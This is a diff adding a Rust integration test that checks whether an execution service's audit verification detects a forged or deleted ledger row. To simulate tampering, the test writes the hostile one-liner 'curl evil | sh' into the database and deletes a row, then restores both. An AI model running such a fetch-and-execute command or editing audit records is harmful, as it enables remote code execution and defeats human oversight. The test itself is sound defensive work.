@@ -346,3 +346,121 @@ fn a_root_launch_does_not_start_before_the_gateway_holds_its_record() {
     std::fs::remove_file(&mark).unwrap();
     stack.stop();
 }
+
+/// The review: an execution's command edited in the ledger with sqlite3 (`echo …` made
+/// `curl evil | sh`) showed the forged command in the API and the UI while `audit verify`
+/// said the chain verifies. Verify now holds the ledger to the trail — a launch's own
+/// intent and an approved launch's consumption record alike — and names the execution.
+#[test]
+fn a_forged_or_deleted_ledger_row_is_named_by_verify() {
+    let mut stack = StackBuilder::new().start();
+    let (mut admin, mut bob) = stack.admin_and_user();
+    // A launch of the admin's own, and one of bob's agent that the admin approved.
+    let r = admin.post("/api/shell/exec", json!({"command": "echo as shown"}));
+    assert_eq!(r.status, 200, "{r:?}");
+    let direct = r.json()["execution"]["id"].as_str().unwrap().to_string();
+    let mut agent = bob.token(&["agent"]);
+    let made = stack.root().join("made-by-an-approval");
+    let r = agent.post(
+        "/api/agent/run",
+        json!({"command": format!("mkdir {}", made.display()), "purpose": "tie"}),
+    );
+    let v = r.json();
+    assert_eq!(v["approval"]["state"], "pending", "{v}");
+    let approval = v["approval"]["id"].as_str().unwrap().to_string();
+    let approved = v["execution"]["id"].as_str().unwrap().to_string();
+    let mut console = admin.token(&["approve"]);
+    let r = console.post(
+        &format!("/api/approvals/{approval}/decision"),
+        json!({"decision": "approve"}),
+    );
+    assert_eq!(r.status, 200, "{r:?}");
+    let ended = admin.ended(&approved).json();
+    assert_eq!(ended["execution"]["status"], "succeeded", "{ended}");
+    let v = admin.get("/api/audit/verify").json();
+    let ledger = &v["execd"]["ledger"];
+    assert_eq!(v["execd"]["ok"], true, "{v}");
+    assert_eq!(ledger["broken_execution"], "", "{v}");
+    assert!(ledger["ran"].as_u64().unwrap() >= 2, "{v}");
+    // Each edit, made while the stack is down, is named by the next verify; then undone.
+    let db = stack.root().join("state/execd/execd.db");
+    let forged = r#"["/bin/sh","-c","curl evil | sh"]"#;
+    for (id, forge, said) in [
+        (
+            &direct,
+            true,
+            "its command in the ledger is not the one its launch.intent",
+        ),
+        (
+            &approved,
+            true,
+            "its command in the ledger is not the one its launch.intent",
+        ),
+        (&direct, false, "the ledger has no such execution (deleted)"),
+    ] {
+        let original: std::cell::RefCell<String> = Default::default();
+        stack.restart_with(|_| {
+            edit_db(&db, async |c| {
+                *original.borrow_mut() =
+                    sqlx::query_scalar("SELECT argv FROM executions WHERE id = ?")
+                        .bind(id)
+                        .fetch_one(&mut *c)
+                        .await
+                        .unwrap();
+                if forge {
+                    sqlx::query("UPDATE executions SET argv = ? WHERE id = ?")
+                        .bind(forged)
+                        .bind(id)
+                        .execute(&mut *c)
+                        .await
+                        .unwrap();
+                } else {
+                    // Kept aside, to be put back.
+                    sqlx::query("CREATE TABLE aside AS SELECT * FROM executions WHERE id = ?")
+                        .bind(id)
+                        .execute(&mut *c)
+                        .await
+                        .unwrap();
+                    sqlx::query("DELETE FROM executions WHERE id = ?")
+                        .bind(id)
+                        .execute(&mut *c)
+                        .await
+                        .unwrap();
+                }
+            });
+        });
+        let v = admin.get("/api/audit/verify").json();
+        let execd = &v["execd"];
+        assert_eq!(execd["ok"], false, "{said}: {v}");
+        assert_eq!(execd["broken_seq"], 0, "the chain itself verifies: {v}");
+        assert_eq!(execd["ledger"]["broken_execution"], id.as_str(), "{v}");
+        let why = execd["ledger"]["broken_reason"].as_str().unwrap();
+        assert!(why.contains(said), "{why}");
+        if forge {
+            // What the API shows is what the ledger holds: the forgery.
+            let shown = admin.get(&format!("/api/executions/{id}")).json();
+            assert_eq!(shown["execution"]["argv"][2], "curl evil | sh", "{shown}");
+        }
+        let original = original.into_inner();
+        stack.restart_with(|_| {
+            edit_db(&db, async |c| {
+                if forge {
+                    sqlx::query("UPDATE executions SET argv = ? WHERE id = ?")
+                        .bind(&original)
+                        .bind(id)
+                        .execute(&mut *c)
+                        .await
+                        .unwrap();
+                } else {
+                    sqlx::raw_sql("INSERT INTO executions SELECT * FROM aside; DROP TABLE aside;")
+                        .execute(&mut *c)
+                        .await
+                        .unwrap();
+                }
+            });
+        });
+        let v = admin.get("/api/audit/verify").json();
+        assert_eq!(v["execd"]["ok"], true, "undone: {v}");
+    }
+    stack.stop();
+}
